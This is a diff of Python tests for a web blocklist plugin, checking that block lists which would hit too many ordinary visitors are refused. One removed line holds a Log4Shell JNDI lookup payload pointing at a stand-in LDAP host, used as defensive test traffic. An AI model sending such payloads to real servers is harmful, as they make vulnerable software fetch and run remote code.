@@ -1,6 +1,7 @@
 """A list that would hit too many people is not published, and what was published stays."""
 
 import json
+from collections import Counter
 from datetime import timedelta
 from pathlib import Path
 
@@ -10,6 +11,7 @@ from plugins.blocklist.breaker import publish_anyway, refusal
 from plugins.blocklist.by_hand import lift
 from plugins.blocklist.decisions import Decisions
 from plugins.blocklist.exporting import publish_exports, published
+from plugins.scenarios import scenarios_of
 from plugins.steps.watching import find_troubles
 from schemas.refusals import RefusedError
 from tests.plugins.blocklist.blocklists import MALLORY, NOON, OPEN, TRUDY, attack, ban_by_hand, detect_on, export
@@ -17,21 +19,39 @@ from tests.stores import Site, hit
 
 A_DAY, HOUR, MINUTE = timedelta(days=1), timedelta(hours=1), timedelta(minutes=1)
 CROWD = "198.51.100.{}"
+TOO_WIDE = """\
+name = "too-wide"
+description = "Whoever reads the library, because somebody forgot half a pattern"
+severity = "low"
+bucket = { capacity = 0, leak = "PT1M" }
+[[match]]
+path = ["^/library/"]
+"""
 YESTERDAY = NOON - A_DAY
 
 
 def visited(folder: Path, people: int = 100, policy: str = OPEN, with_parts: bool = True) -> Site:
     """A site that so many people visited yesterday, each with an address of their own, and that Mallory attacks."""
-    site = Site(folder, NOON, policy)
+    rules = folder / "rules"
+    rules.mkdir(parents=True)
+    (rules / "too-wide.toml").write_text(TOO_WIDE, encoding="utf-8")
+    site = Site(folder, NOON, f'{policy}\n[places]\nscenarios = "{rules}"\n')
     for n in range(people):
         address, moment = CROWD.format(n), YESTERDAY + n * timedelta(seconds=1)
         site.write("access.log", hit(moment, address, "/"))
         if with_parts:
             site.write("access.log", hit(moment, address, "/style.css"))
     attack(site, NOON - 5 * MINUTE)
+    site.policy.write_text(site.policy.read_text().replace("allowlist", f"off = {others(site)}\nallowlist"))
     detect_on(site)
     publish_exports(site.open())
     return site
+
+
+def others(site: Site) -> list[str]:
+    """Scenarios that are not needed here, so that none of them finds the same."""
+    used = {"too-wide", "log4shell", "sql-injection"}
+    return [one.name for one in scenarios_of(site.open().policy) if one.name not in used]
 
 
 def blocked(site: Site) -> set[str]:
@@ -41,7 +61,7 @@ def blocked(site: Site) -> set[str]:
 def probe_like_people(site: Site, people: int, address: str = CROWD) -> None:
     """Today a scenario takes so many of them for attackers."""
     for n in range(people):
-        site.write("access.log", hit(NOON - MINUTE, address.format(n), "/?x=${jndi:ldap://x.example/a}"))
+        site.write("access.log", hit(NOON - MINUTE, address.format(n), "/library/1"))
     site.ingest()
     detect_on(site)
     publish_exports(site.open())
@@ -63,7 +83,7 @@ def test_a_list_that_hits_too_many_people_is_refused_and_the_one_before_stays(tm
     assert said
     assert "10 of 100 people" in said
     assert "10.0%" in said
-    assert "by log4shell" in said
+    assert "by too-wide" in said
     assert "198.51" not in said
     assert said in find_troubles(site.open())
 
@@ -72,8 +92,7 @@ def test_up_to_three_people_are_no_crowd(tmp_path: Path) -> None:
     site = visited(tmp_path, people=20)
     probe_like_people(site, 3)
     assert len(blocked(site)) == 4
-    attack(site, NOON, address=CROWD.format(3))
-    detect_on(site)
+    probe_like_people(site, 4)
     assert len(blocked(site)) == 4
 
 
@@ -125,10 +144,10 @@ def test_lifting_what_hits_people_lets_the_rest_through(tmp_path: Path) -> None:
 def test_to_simulate_the_scenario_ends_its_bans(tmp_path: Path) -> None:
     site = visited(tmp_path)
     probe_like_people(site, 10)
-    site.policy.write_text(OPEN + 'simulate = ["log4shell"]\n')
-    assert blocked(site) == set()
+    site.policy.write_text(site.policy.read_text().replace("allowlist", 'simulate = ["too-wide"]\nallowlist'))
+    assert blocked(site) == {MALLORY}
     assert refusal(site.open()) is None
-    assert {one.lifted_by for one in Decisions(site.open()).all()} == {"policy"}
+    assert Counter(one.lifted_by for one in Decisions(site.open()).all()) == {"policy": 10, "": 1}
 
 
 def test_a_lift_holds_though_the_newest_list_is_refused(tmp_path: Path) -> None:
